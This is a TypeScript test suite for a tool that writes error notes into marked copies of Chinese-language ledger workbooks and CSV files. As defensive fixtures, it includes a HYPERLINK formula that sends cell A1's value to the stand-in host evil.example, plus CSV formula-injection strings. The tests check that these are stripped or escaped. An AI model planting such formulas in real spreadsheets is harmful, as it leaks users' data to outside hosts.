import fs from 'node:fs'
import path from 'node:path'
import { describe, expect, test } from 'vitest'
import { readLedger } from '@/lib/domain/ledger'
import { on } from '@/lib/domain/plain-date'
import { markCsv } from './mark-csv'
import { markXlsx, type SheetMarks } from './mark-xlsx'
import { readTable } from './read-table'
import { sheetParts, sheetXml, zip } from './testdata/make-package'
import { openArchive } from './xlsx-archive'

const NO_WORDS = { columns: new Map(), stages: new Map() }
const file = (name: string) => fs.readFileSync(path.join(import.meta.dirname, 'testdata', name))
async function gridOf(bytes: Uint8Array) {
  const read = await readTable(bytes, '台账.csv')
  if (!read.ok) throw new Error(read.error.code)
  return read.value
}
async function marked(bytes: Uint8Array, ...sheets: SheetMarks[]) {
  const made = await markXlsx(bytes, sheets)
  if (!made.ok) throw new Error(made.error.code)
  return made.value
}
const textAt = (grid: Awaited<ReturnType<typeof gridOf>>, row: number, column: number) =>
  grid[0]?.rows.find(({ number }) => number === row)?.cells.get(column)?.text

describe('a marked copy of a workbook', async () => {
  const original = file('weekly-ledger-errors.xlsx')
  const before = await gridOf(original)
  const ledger = readLedger(before, on('2026-11-23'), NO_WORDS)
  const [sheet] = ledger.sheets
  const wide = Math.max(...(sheet?.columns.map(({ column }) => column) ?? [])) + 1
  const marks: SheetMarks = {
    sheet: sheet?.name ?? '',
    headerRow: sheet?.headerRow ?? 0,
    column: wide,
    header: '错误说明',
    marks: [
      { row: 4, columns: [2], text: 'B列“项目名称”：为空 <请补上> & "再导"' },
      { row: 7, columns: [3, 5], text: '=1+1' },
    ],
  }

  test('says beside each row what is wrong, and nothing else has changed', async () => {
    const after = await gridOf(await marked(original, marks))
    expect(textAt(after, marks.headerRow, wide)).toBe('错误说明')
    expect(textAt(after, 4, wide)).toBe('B列“项目名称”：为空 <请补上> & "再导"')
    const cell = after[0]?.rows.find(({ number }) => number === 7)?.cells.get(wide)
    expect(cell).toMatchObject({ kind: 'text', text: '=1+1', formula: false })
    for (const row of before[0]?.rows ?? [])
      for (const [column, was] of row.cells)
        expect(after[0]?.rows.find(({ number }) => number === row.number)?.cells.get(column), `${row.number}`).toEqual({
          ...was,
          formula: false,
        })
    expect(after[0]?.merges).toEqual(before[0]?.merges)
  })

  test('colours the cells that are meant, with the format they had', async () => {
    const archive = await openArchive(await marked(original, marks))
    const xml = await archive.text(archive.names.find((name) => name.includes('worksheets/sheet1')) ?? '')
    const styles = await archive.text('xl/styles.xml')
    const fills = [...styles.matchAll(/<fill>/g)].length
    const formats = [...(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '').matchAll(/<xf\b[^>]*>/g)]
    for (const at of ['B4', 'C7', 'E7']) {
      const style = Number(new RegExp(`<c r="${at}"[^>]* s="(\\d+)"`).exec(xml)?.[1])
      expect(formats[style]?.[0], at).toContain(`fillId="${fills - 1}"`)
    }
    expect(styles).toContain('FFFFC7CE')
    expect(styles).toContain(`<fills count="${fills}">`)
  })

  test('is read like the original, and a second round writes the same column anew', async () => {
    const once = await marked(original, marks)
    const again = readLedger(await gridOf(once), on('2026-11-23'), NO_WORDS)
    // Its formulas have become the values they had.
    const said = ledger.rows.map((row) => row.notes.filter(({ code }) => code !== 'FORMULA'))
    expect(again.rows.map((row) => row.notes)).toEqual(said)
    expect(again.sheets[0]?.unknownColumns).toEqual(ledger.sheets[0]?.unknownColumns)
    const twice = await gridOf(await marked(once, { ...marks, marks: [{ row: 8, columns: [], text: '改这里' }] }))
    expect([textAt(twice, 4, wide), textAt(twice, 7, wide), textAt(twice, 8, wide)]).toEqual([
      undefined,
      undefined,
      '改这里',
    ])
  })

  test('parts without marks are the very bytes they were', async () => {
    const [from, to] = [await openArchive(original), await openArchive(await marked(original, marks))]
    expect(to.names).toEqual(from.names)
    for (const name of from.names.filter((n) => !/sheet1|styles/.test(n)))
      expect((await to.packed(name)).packed.equals((await from.packed(name)).packed), name).toBe(true)
  })

  test('a workbook without styles, with prefixes and without references gets its words all the same', async () => {
    const rows =
      '<x:row><x:c t="inlineStr"><x:is><x:t>项目名称</x:t></x:is></x:c></x:row><x:row><x:c><x:v>1</x:v></x:c></x:row>'
    const bytes = zip(
      sheetParts(sheetXml(rows).replaceAll('sheetData', 'x:sheetData').replaceAll('worksheet', 'x:worksheet')),
    )
    const made = await marked(bytes, {
      sheet: '台账',
      headerRow: 1,
      column: 2,
      header: '错误说明',
      marks: [{ row: 2, columns: [1], text: '名称' }],
    })
    expect([textAt(await gridOf(made), 1, 2), textAt(await gridOf(made), 2, 2)]).toEqual(['错误说明', '名称'])
  })
})

test('no formula and no link leaves in a marked copy, the values they had do', async () => {
  const sheet = (body: string, after = '') => `<worksheet><sheetData>${body}</sheetData>${after}</worksheet>`
  const link = 'HYPERLINK("https://evil.example/?"&amp;A1,"点这里")'
  const rows = `<row r="1"><c r="A1" t="inlineStr"><is><t>项目名称</t></is></c></row><row r="2"><c r="A2" t="str"><f>${link}</f><v>点这里</v></c><c r="B2"><f t="shared" si="0"/><v>42</v></c><c r="C2"><f ca="1">NOW()</f></c></row>`
  const parts = sheetParts(sheet(rows, '<hyperlinks><hyperlink ref="A2" r:id="rId9"/></hyperlinks>'))
  const chain = { name: 'xl/calcChain.xml', body: '<calcChain><c r="A2" i="1"/></calcChain>' }
  const types = {
    name: '[Content_Types].xml',
    body: '<Types><Override PartName="/xl/workbook.xml" ContentType="w"/><Override PartName="/xl/calcChain.xml" ContentType="c"/></Types>',
  }
  const made = await marked(zip([...parts, chain, types]), {
    sheet: '台账',
    headerRow: 1,
    column: 4,
    header: '错误说明',
    marks: [{ row: 2, columns: [1], text: '名称' }],
  })
  const archive = await openArchive(made)
  const xml = await archive.text('xl/worksheets/sheet1.xml')
  expect(xml).not.toMatch(/<f[\s>/]|hyperlink|HYPERLINK/)
  expect(archive.names).not.toContain('xl/calcchain.xml')
  expect(await archive.text('[Content_Types].xml')).not.toContain('calcChain')
  const grid = await gridOf(made)
  expect([textAt(grid, 2, 1), textAt(grid, 2, 2), textAt(grid, 2, 3), textAt(grid, 2, 4)]).toEqual([
    '点这里',
    '42',
    undefined,
    '名称',
  ])
})

test('a text of a CSV file that would act as a formula comes back as a text, and is read as it was', async () => {
  const text =
    '项目名称,金额,说明\r\n"=HYPERLINK(""https://evil.example"")",-3,"=""00123"""\r\n@SUM(A1),+86 371-1,-2+3\r\n'
  const marks = { sheet: '台账', headerRow: 1, column: 4, header: '错误说明', marks: [] }
  const made = await markCsv(Buffer.from(text), marks)
  if (!made.ok) throw new Error(made.error.code)
  const lines = made.value.toString().split('\r\n')
  expect(lines[1]).toBe(`"'=HYPERLINK(""https://evil.example"")",-3,"=""00123"""`)
  expect(lines[2]).toBe(`'@SUM(A1),+86 371-1,'-2+3`)
  const grid = await gridOf(made.value)
  expect([textAt(grid, 2, 1), textAt(grid, 2, 3), textAt(grid, 3, 1), textAt(grid, 3, 3)]).toEqual([
    '=HYPERLINK("https://evil.example")',
    '00123',
    '@SUM(A1)',
    '-2+3',
  ])
})

test('a marked copy of a CSV file opens in a spreadsheet with its columns', async () => {
  const text = '项目名称,金额,说明\r\n冷库,-3,"外立面, ""东侧""\n进场"\r\n\r\n展厅,5,好\r\n'
  const marks = {
    sheet: '台账',
    headerRow: 1,
    column: 4,
    header: '错误说明',
    marks: [{ row: 2, columns: [2], text: 'B列“金额”：为负，请核对。' }],
  }
  const made = await markCsv(Buffer.from(text), marks)
  if (!made.ok) throw new Error(made.error.code)
  expect([...made.value.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const grid = await gridOf(made.value)
  expect([textAt(grid, 1, 4), textAt(grid, 2, 4), textAt(grid, 4, 4)]).toEqual([
    '错误说明',
    'B列“金额”：为负，请核对。',
    undefined,
  ])
  expect(textAt(grid, 2, 3)).toBe('外立面, "东侧"\n进场')
})
